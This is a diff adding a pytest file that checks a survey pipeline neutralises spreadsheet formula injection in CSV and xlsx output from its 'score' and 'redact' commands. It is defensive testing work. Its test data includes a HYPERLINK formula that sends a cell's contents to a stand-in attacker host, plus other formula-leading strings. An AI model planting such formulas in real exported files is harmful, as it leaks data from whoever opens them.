@@ -1,0 +1,108 @@
+"""Output people open in Excel never runs what a respondent typed (issue 14, "formula injection").
+
+Before the fix, `=HYPERLINK("http://…?x="&A1,"click")` in a survey answer came out raw in
+CSV and as a live formula in xlsx (`score`, `redact`, the report's workbook).
+"""
+
+import csv
+import zipfile
+
+import openpyxl
+import pandas as pd
+import pyarrow as pa
+import pytest
+import yaml
+
+from pipeline.io.files import neutralise_formula, write_chunks, write_table
+
+LINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+DANGEROUS = [LINK, "+44 7700 900123", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\uff1dcmd"]
+SAFE = ["It's fine", "a = b", "n/a", "", "-", "+ "]
+
+
+@pytest.mark.parametrize("value", DANGEROUS)
+def test_text_that_starts_like_a_formula_gets_an_apostrophe(value):
+    assert neutralise_formula(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", [*SAFE, None, 3, -2.5])
+def test_everything_else_is_left_alone(value):
+    assert neutralise_formula(value) == value
+
+
+def _tables(values):
+    schema = pa.schema([("id", pa.string()), ("answer", pa.string()), ("count", pa.int64())])
+    rows = pa.table({"id": [f"@{i}" for i in range(len(values))], "answer": values, "count": [-1] * len(values)})
+    return [rows], schema
+
+
+def test_csv_output_neutralises_every_text_cell_and_keeps_numbers(tmp_path):
+    dangerous = [v for v in DANGEROUS if "\r" not in v]  # a bare CR inside a CSV cell is issue 14's item 5, not done
+    tables, schema = _tables(dangerous + SAFE)
+    write_chunks(tables, schema, tmp_path / "out.csv")
+    with open(tmp_path / "out.csv", newline="", encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    assert [r["answer"] for r in rows] == ["'" + v for v in dangerous] + SAFE
+    assert all(r["id"].startswith("'@") for r in rows)
+    assert {r["count"] for r in rows} == {"-1"}  # a number is not text a formula can hide in
+
+
+def test_allow_formulas_writes_csv_cells_as_they_are(tmp_path):
+    tables, schema = _tables([LINK])
+    write_chunks(tables, schema, tmp_path / "out.csv", allow_formulas=True)
+    assert pd.read_csv(tmp_path / "out.csv")["answer"].tolist() == [LINK]
+
+
+@pytest.mark.parametrize("allow_formulas", [False, True])
+def test_xlsx_cells_are_text_never_formulas(tmp_path, allow_formulas):
+    tables, schema = _tables(DANGEROUS)
+    write_chunks(tables, schema, tmp_path / "out.xlsx", allow_formulas=allow_formulas)
+    sheet_xml = zipfile.ZipFile(tmp_path / "out.xlsx").read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml
+    sheet = openpyxl.load_workbook(tmp_path / "out.xlsx").active
+    answers = [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)]
+    assert answers[0] == (LINK if allow_formulas else "'" + LINK)
+    assert all(cell.data_type == "s" for cell in sheet["B"][1:])
+
+
+@pytest.mark.parametrize("name", ["plots.csv", "plots.xlsx"])
+def test_tables_written_whole_are_neutralised_too(tmp_path, name):
+    write_table(pd.DataFrame({"=group": [LINK, "ward"], "share": [-0.5, 0.5]}), tmp_path / name)
+    back = pd.read_csv(tmp_path / name) if name.endswith(".csv") else pd.read_excel(tmp_path / name)
+    assert list(back.columns) == ["'=group", "share"]
+    assert back["'=group"].tolist() == ["'" + LINK, "ward"] and back["share"].tolist() == [-0.5, 0.5]
+
+
+@pytest.fixture()
+def params_file(tmp_path):
+    path = tmp_path / "params.yaml"
+    encoder = {"backend": "hashing", "model": "", "dim": 512}
+    path.write_text(yaml.safe_dump({"encoder": encoder, "text": {"sentences": "sentencizer"}}))
+    return path
+
+
+@pytest.fixture()
+def export(tmp_path):
+    path = tmp_path / "export.csv"
+    pd.DataFrame({"id": ["=1+1", "r2"], "answer": [LINK, "She explains why decisions are made."]}).to_csv(path, index=False)
+    return path
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_score_neutralises_answers_and_ids_unless_asked_not_to(run_cli, model_dir, params_file, export, tmp_path, suffix):
+    options = ("-c", "answer", "--model", model_dir, "--params", params_file)
+    code, _, err = run_cli("score", export, "-o", tmp_path / f"safe{suffix}", *options)
+    assert code == 0, err
+    read = pd.read_csv if suffix == ".csv" else pd.read_excel
+    safe = read(tmp_path / f"safe{suffix}")
+    assert safe["answer"].tolist()[0] == "'" + LINK and safe["id"].tolist()[0] == "'=1+1"
+    code, _, err = run_cli("score", export, "-o", tmp_path / f"raw{suffix}", *options, "--allow-formulas")
+    assert code == 0, err
+    assert read(tmp_path / f"raw{suffix}")["answer"].tolist()[0] == LINK
+
+
+def test_redact_neutralises_its_output(run_cli, params_file, export, tmp_path):
+    code, _, err = run_cli("redact", export, "-o", tmp_path / "red.csv", "-c", "answer", "--params", params_file)
+    assert code == 0, err
+    assert pd.read_csv(tmp_path / "red.csv")["answer"].tolist()[0] == "'" + LINK
+    assert pd.read_csv(export)["answer"].tolist()[0] == LINK  # the input is untouched
